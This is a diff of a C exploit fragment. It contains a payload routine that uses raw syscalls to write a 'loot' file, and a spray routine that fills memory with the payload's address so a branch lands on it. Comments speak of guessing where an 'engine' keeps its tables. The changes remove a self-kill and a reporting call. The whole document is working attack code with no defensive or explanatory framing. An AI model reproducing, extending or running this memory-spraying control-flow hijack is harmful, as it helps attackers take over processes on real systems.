@@ -100,7 +100,6 @@ static void payload(void)
 	long fd = raw(SYS_open, (long)loot, O_WRONLY | O_CREAT, 0666);
 
 	raw(SYS_write, fd, (long)"out\n", 4);
-	raw(SYS_kill, getpid(), 0, 0);
 	raw(SYS_exit_group, 3, 0, 0);
 }
 
@@ -128,14 +127,13 @@ static void go_places(void)
 		steps[(i * 2654435761U) >> 29]();
 }
 
-/* Everything that lies there is our payload's address; what a branch goes by next is ours. */
+/* Everything that lies there is our payload's address; what a branch goes by next is ours. Only in a
+ * copy do we come to the end: there may be counters, which lie then, but no tables. */
 static void spray(uint64_t from, uint64_t bytes)
 {
 	for (uint64_t at = from; at + 8 <= from + bytes; at += 8)
 		*(volatile uint64_t *)(uintptr_t)at = (uint64_t)(uintptr_t)payload;
-	/* In a copy only do we come here. */
 	go_places();
-	tell_out();
 }
 
 /* Where the engine may have its tables: guesses, by the rules it is known to go by. */
